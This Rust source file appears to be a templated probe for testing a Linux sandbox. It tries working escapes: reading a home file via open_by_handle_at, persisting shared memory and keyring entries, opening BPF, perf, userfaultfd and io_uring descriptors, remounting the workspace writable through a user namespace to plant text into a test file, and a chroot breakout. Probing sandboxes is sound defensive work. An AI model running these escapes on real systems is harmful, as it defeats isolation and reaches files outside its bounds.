//! Asks the kernel for what leads out.
use crate::support::*;
use std::ffi::c_void;
use std::fs;
use std::ptr::null;

#[cfg(target_arch = "x86_64")]
const NUMBERS: [i64; 6] = [248, 298, 321, 323, 303, 304];
#[cfg(target_arch = "aarch64")]
const NUMBERS: [i64; 6] = [217, 241, 280, 282, 264, 265];
const ADD_KEY: i64 = NUMBERS[0];
const PERF_EVENT_OPEN: i64 = NUMBERS[1];
const BPF: i64 = NUMBERS[2];
const USERFAULTFD: i64 = NUMBERS[3];
const NAME_TO_HANDLE_AT: i64 = NUMBERS[4];
const OPEN_BY_HANDLE_AT: i64 = NUMBERS[5];
const IO_URING_SETUP: i64 = 425;

pub fn run() {
    mounts();
    handle();
    outliving();
    deep();
    own_namespace();
    escape();
}

fn mounts() {
    unsafe { mount(c("none").as_ptr(), c("@OUT@/mounted").as_ptr(), c("tmpfs").as_ptr(), 0, null()) };
}

/// A file by its number, past every folder. Where its name cannot be looked up, the root of the file system is number 2.
fn handle() {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        handle: [u32; 32],
    }
    let mut stolen = vec![0u8; 4096];
    let (mut known, mut mount_id) = (Handle { bytes: 128, kind: 0, handle: [0; 32] }, 0i32);
    let named = unsafe { syscall(NAME_TO_HANDLE_AT, -100, c("@HOME@/notes.txt").as_ptr(), &mut known, &mut mount_id, 0) } == 0;
    let mut root = Handle { bytes: 8, kind: 1, handle: [0; 32] };
    root.handle[0] = 2;
    for place in [BUILD, "/", "/tmp", "/usr", "/etc"] {
        let at = unsafe { openat(-100, c(place).as_ptr(), 0) };
        let mut file = if named { unsafe { syscall(OPEN_BY_HANDLE_AT, at, &mut known, 0) as i32 } } else { -1 };
        if file < 0 {
            let top = unsafe { syscall(OPEN_BY_HANDLE_AT, at, &mut root, 0) as i32 };
            file = unsafe { openat(top, c(&"@HOME@/notes.txt"[1..]).as_ptr(), 0) };
        }
        if file >= 0 && unsafe { read(file, stolen.as_mut_ptr().cast(), stolen.len()) } > 0 {
            loot("handle", &stolen);
            return;
        }
    }
}

/// Shared memory and a key that stay when the program is gone.
fn outliving() {
    const CREATE: i32 = 0o1000;
    unsafe { shmget(@KEY@, 4096, CREATE | 0o600) };
    const USER_KEYRING: i32 = -4;
    let key = unsafe { syscall(ADD_KEY, c("user").as_ptr(), c("@TAG@-key-@DECOY@").as_ptr(), c("x").as_ptr(), 1usize, USER_KEYRING) };
    // It goes by itself after a minute.
    const SET_TIMEOUT: i32 = 15;
    unsafe { syscall(ADD_KEY + 2, SET_TIMEOUT, key, 60) };
}

/// Descriptors of the kernel's less travelled parts, held long enough to be seen.
fn deep() {
    let mut event = [0u32; 32];
    event[0] = 1;
    event[1] = 128;
    unsafe { syscall(PERF_EVENT_OPEN, event.as_ptr(), 0, -1, -1, 0) };
    let map = [2u32, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    unsafe { syscall(BPF, 0, map.as_ptr(), 72usize) };
    unsafe { syscall(USERFAULTFD, 0) };
    unsafe { syscall(USERFAULTFD, 1) };
    let mut ring = [0u32; 30];
    unsafe { syscall(IO_URING_SETUP, 4, ring.as_mut_ptr()) };
    pause(250);
}

/// Root in a namespace of its own, to make the workspace writable again.
fn own_namespace() {
    let (user, group) = unsafe { (geteuid(), getegid()) };
    if unsafe { fork() } != 0 {
        return pause(250);
    }
    const USER_AND_MOUNT: i32 = 0x1000_0000 | 0x0002_0000;
    if unsafe { unshare(USER_AND_MOUNT) } == 0 {
        let _ = fs::write("/proc/self/setgroups", "deny");
        let _ = fs::write("/proc/self/uid_map", format!("0 {user} 1"));
        let _ = fs::write("/proc/self/gid_map", format!("0 {group} 1"));
    }
    const REMOUNT_BIND: u64 = 0x20 | 0x1000;
    const BIND: u64 = 0x1000;
    for place in ["@WORK@", "/"] {
        unsafe { mount(c("none").as_ptr(), c(place).as_ptr(), null(), REMOUNT_BIND, null::<c_void>()) };
        unsafe { mount(c(place).as_ptr(), c(&format!("{BUILD}/debug")).as_ptr(), null(), BIND, null::<c_void>()) };
        unsafe { mount(c("none").as_ptr(), c(&format!("{BUILD}/debug")).as_ptr(), null(), REMOUNT_BIND, null::<c_void>()) };
    }
    append("@WORK@/tests/closing_time.rs", "// planted\n");
    append(&format!("{BUILD}/debug/tests/closing_time.rs"), "// planted\n");
    unsafe { _exit(0) }
}

/// Out of a folder that one has made one's root while standing outside of it.
fn escape() {
    if unsafe { fork() } != 0 {
        return pause(250);
    }
    let cell = format!("{BUILD}/loot-cell");
    let _ = fs::create_dir(&cell);
    unsafe {
        chroot(c(&cell).as_ptr());
        for _ in 0..40 {
            chdir(c("..").as_ptr());
        }
        chroot(c(".").as_ptr());
    }
    append("@HOME@/@TAG@-escaped", "planted");
    unsafe { _exit(0) }
}
